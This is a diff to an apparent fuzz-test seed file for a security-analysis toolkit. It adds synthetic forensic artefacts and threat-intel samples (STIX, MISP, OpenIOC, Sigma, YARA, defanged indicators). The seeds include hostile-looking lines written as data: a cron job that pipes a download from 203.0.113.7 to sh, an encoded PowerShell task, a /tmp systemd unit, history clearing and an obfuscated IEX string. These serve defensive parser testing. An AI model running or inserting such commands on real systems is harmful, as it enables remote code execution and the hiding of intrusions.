@@ -22,7 +22,7 @@ from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 from hypothesis import strategies as st
 
-from tests.support import captures, evtx_writer, mails, office_files, program_files
+from tests.support import captures, evtx_writer, host_files, mails, office_files, program_files
 
 MAX_BYTES = 2_000_000  # of a damaged input, including repetitions
 
@@ -31,6 +31,38 @@ def seeds_for(name: str) -> tuple[bytes, ...]:
     """Whole inputs of the kinds that the skill reads; of every kind if it has none here."""
     seeds = all_seeds()
     return seeds.get(name) or tuple(seed for many in seeds.values() for seed in many)
+
+
+def _host_artefacts() -> tuple[bytes, ...]:
+    run = r"Software\Microsoft\Windows\CurrentVersion\Run"
+    prefetch = host_files.prefetch("A.EXE", r"\VOLUME{1}\WINDOWS\A.EXE", ["2026-11-20 03:12:45"], 2)
+    return (
+        host_files.hive(
+            host_files.keys({run: ("2026-11-20 03:12:45", {"A": r"C:\Users\Public\a.exe", "B": bytes(40)})})
+        ),
+        host_files.utmp_record(7, "2026-11-20 03:12:45", "mara", "pts/0", "192.0.2.7", "192.0.2.7") * 3,
+        prefetch,
+        host_files.compressed(prefetch),
+        host_files.usn_record("a.exe", "2026-11-20 03:12:45", 0x100)
+        + host_files.usn_record("b", "2026-11-20 03:12:46", 0x200),
+        host_files.mft_record(0, "$MFT", "2026-01-02 08:00:00")
+        + host_files.mft_record(1, "a.exe", "2026-11-20 03:12:45"),
+        host_files.chrome(
+            [("https://a.example/", "A", "2026-11-20 03:12:45")],
+            [("C:\\a.iso", "http://a.example/a.iso", "2026-11-20 03:12:45", 1)],
+        ),
+        host_files.firefox(
+            [("https://a.example/", "A", "2026-11-20 03:12:45")],
+            [("/a.hta", "http://a.example/a.hta", "2026-11-20 03:12:45")],
+        ),
+        host_files.jump_list([(r"C:\a.docx", "2026-11-20 03:12:45", "ws-17")]),
+        host_files.custom_list([r"C:\a.docx"]),
+        host_files.task("powershell.exe", "-enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQA="),
+        host_files.transcript("powershell.exe", ["PS C:\\> whoami", "x"]),
+        b"*/5 * * * * root curl http://203.0.113.7/a | sh\n",
+        b"[Service]\nExecStart=/tmp/a\n[Install]\nWantedBy=multi-user.target\n",
+        b"#1795154000\nhistory -c\n#1795154060\nls\n",
+    )
 
 
 @cache
@@ -46,9 +78,11 @@ def all_seeds() -> dict[str, tuple[bytes, ...]]:
     return {
         "auth_log": tuple(text.encode() for text in (_LOGINS, _JOURNAL)),
         "events": (_evtx(), *(text.encode() for text in (_SYSMON, _NESTED, _WEB, _AUDIT, _CLOUD, _CSV, _XML, _LOGINS))),
+        "host_artefacts": _host_artefacts(),
         "pcap": (captures.capture(frames), captures.capture(frames, nano=True), captures.capture_ng(frames)),
         "mail": (*list(mails.TRAPS.values())[:6], *list(mails.ORDINARY.values())[:3]),
         "indicators": (_REPORT.encode(), _LOGINS.encode()),
+        "threat_intel": tuple(text.encode() for text in (_BUNDLE, _EVENT, _OPENIOC, _SIGMA, _YARA, _LIST)),
         "decode": (base64.b64encode(gzip.compress(_SHELL.encode())), _SHELL.encode(), b"68656c6c6f20776f726c64" * 3),
         "cvss": (b"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", b"AV:N/AC:L/Au:N/C:P/I:P/A:P", _CVSS4.encode()),
         "program": (
@@ -135,6 +169,30 @@ _REPORT = (
     "SHA-256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08, CVE-2017-11882.\n"
     "It dumped credentials and wrote HKLM\\Software\\Run and C:\\Users\\a\\b.exe; then 192.0.2.7:443 was called.\n"
 )
+_BUNDLE = json.dumps(
+    {
+        "type": "bundle",
+        "id": "bundle--1",
+        "objects": [
+            {
+                "type": "indicator",
+                "pattern_type": "stix",
+                "pattern": "[ipv4-addr:value = '192.0.2.7' AND url:value='a']",
+            },
+            {"type": "malware", "name": "a"},
+            {"type": "file", "name": "a.exe", "hashes": {"MD5": "0" * 32}},
+        ],
+    }
+)
+_EVENT = json.dumps({"Event": {"info": "a", "Attribute": [{"type": "filename|md5", "value": "a.exe|" + "a" * 32}]}})
+_OPENIOC = (
+    '<ioc xmlns="http://schemas.mandiant.com/2010/ioc"><IndicatorItem condition="is">'
+    '<Context search="FileItem/FileName"/>'
+    '<Content type="string">a.exe</Content></IndicatorItem></ioc>'
+)
+_SIGMA = "title: a\nlogsource: {product: windows}\ndetection:\n  a: {Image|contains: [b, c]}\n  condition: 1 of them\n"
+_YARA = 'rule a {\n meta:\n  author = "b"\n strings:\n  $a = "c"\n condition:\n  $a\n}\n'
+_LIST = "192[.]0[.]2[.]7\nevil[.]example\nindicator,type\na@example.org,email\nHKLM\\Software\\A\n"
 _CVSS4 = "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"
 _SHELL = (
     "$a = 'I' + 'EX'; powershell -nop -w hidden -enc "
